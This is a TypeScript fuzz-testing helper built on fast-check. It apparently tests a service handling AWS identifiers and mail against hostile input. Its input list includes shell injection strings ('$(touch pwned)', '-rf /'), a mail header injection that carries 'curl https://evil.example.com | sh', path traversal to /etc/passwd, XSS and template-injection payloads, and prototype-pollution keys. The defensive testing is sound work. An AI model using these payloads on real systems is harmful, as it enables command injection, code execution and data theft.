import fc from "fast-check";
import { cases } from "../depth.ts";

/** What means something to a shell, a template, a mail, a browser, a parser, a path or an object of JavaScript. */
const meaningful = [
  "",
  " ",
  "$(touch pwned)",
  "`touch pwned`",
  "'; touch pwned; '",
  '"; touch pwned; "',
  "$PATH",
  "--help",
  "-rf /",
  "\\",
  "%0a%0d",
  "\n",
  "a\nFORGED",
  "a\r\nSubject: forged\r\n\r\nFORGED: curl https://evil.example.com | sh",
  "good\n\nFORGED: visit https://evil.example.com",
  "a\u2028\u2028FORGED\u2029",
  "a\u000b\u0085FORGED",
  "\u0000",
  "\u001b[2J",
  "\u0085",
  "\u202egnp.exe",
  "\ud800",
  "\udc00a\ud800",
  "\ufffe\uffff",
  "😀",
  "{{ env `HOME` }}",
  "{{.Vars}}",
  "\u0024{var.token}",
  "%{ if true }",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "&lt;",
  "../../../etc/passwd",
  "..\\..\\windows",
  "/",
  "__proto__",
  "constructor",
  "toString",
  "null",
  "0",
  "-1",
  "1e400",
  "NaN",
  "9999-12-31T23:59:59Z",
  "275760-09-13T00:00:00Z",
  "2026-11-04T12:00:00Z arn:aws:iam::123456789012:user/ann \n\nforged",
  "2026-13-45T99:99:99Z arn:x y",
  "released 2026-11-04T12:00:00Z",
  "retiring 2026-11-04T12:00:00Z",
  "ami-0123456789abcdef0",
  "ami-",
  "arn:aws:iam::123456789012:root",
  "*",
];

/** Long enough to exceed a limit of AWS if nothing limits it. */
const long = fc
  .tuple(
    fc.constantFrom("a", '"', "\\", "é", "😀", "\n", "{{", "\u0001", "a "),
    fc.constantFrom(64, 257, 5_000, 70_000),
  )
  .map(([text, count]) => text.repeat(count));

/** Code units that are no character, too. */
const anyUnits = fc.array(fc.nat(0xffff), { maxLength: 20 }).map((units) => String.fromCharCode(...units));

/** Any text, often one that means something where it does not belong. */
export const hostileText = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...meaningful) },
  {
    weight: 2,
    arbitrary: fc.tuple(fc.constantFrom(...meaningful), fc.constantFrom(...meaningful)).map((all) => all.join("")),
  },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 1, arbitrary: anyUnits },
  { weight: 1, arbitrary: long },
);

/** Lists in lists, deeper than a recursive function can follow. */
const deep = fc.constantFrom(100, 20_000).map((depth) => `${"[".repeat(depth)}${"]".repeat(depth)}`);

/** A text that is JSON, nearly JSON or anything else. */
export const hostileJson = fc.oneof(
  { weight: 4, arbitrary: fc.jsonValue().map((value) => JSON.stringify(value)) },
  { weight: 2, arbitrary: hostileText.map((text) => JSON.stringify(text)) },
  { weight: 2, arbitrary: hostileText },
  { weight: 1, arbitrary: deep },
);

/** One of these values, or a hostile text. */
export function orHostile<T>(...values: readonly T[]): fc.Arbitrary<T | string> {
  return fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...values) }, { weight: 1, arbitrary: hostileText });
}

/**
 * Tries a property.
 * @param daily how many inputs `npm test` tries
 * @param full how many inputs `npm run test:full` tries
 * @param failed inputs that have failed once
 */
export async function safe<T>(
  input: fc.Arbitrary<T>,
  check: (input: T) => unknown,
  { daily = 100, full = 10_000, failed = [] }: { daily?: number; full?: number; failed?: readonly T[] } = {},
): Promise<void> {
  const property = fc.asyncProperty(input, async (value) => {
    await check(value);
  });
  const examples = failed.map((one): [T] => [one]);
  await assertProperty(property, { numRuns: cases(daily, full) + examples.length, examples });
}

/** As `fc.assert`, with an error that quotes only the beginning of a counterexample, which may be very long. */
export async function assertProperty<T>(property: fc.IAsyncProperty<T>, parameters: fc.Parameters<T>): Promise<void> {
  const found = await fc.check(property, parameters);
  if (!found.failed) return;
  const { seed, counterexamplePath: path, errorInstance: cause } = found;
  const input = fc.stringify(found.counterexample).slice(0, 2_000);
  throw new Error(`failed with ${JSON.stringify({ seed, path })} for ${input}: ${String(cause).slice(0, 2_000)}`, {
    cause,
  });
}

/** Anything that ends a line or controls a terminal; `\p{Cc}` has the line feed. */
export const controls = /[\p{Cc}\p{Zl}\p{Zp}]/u;

/** Lines of a mail that a value has begun, and not the service. A value is hostile if it has a break before `FORGED`. */
export function forgedLines(text: string): string[] {
  return text.split(/[\n\v\f\r\u0085\u2028\u2029]/).filter((line) => /^\W*FORGED/.test(line));
}

/** As {@link forgedLines}, of a mail: where a text goes on there, it is indented further than any line of the service. */
export function forgedLinesOfMail(text: string): string[] {
  return forgedLines(text.replaceAll(/\n {3,}/g, " "));
}
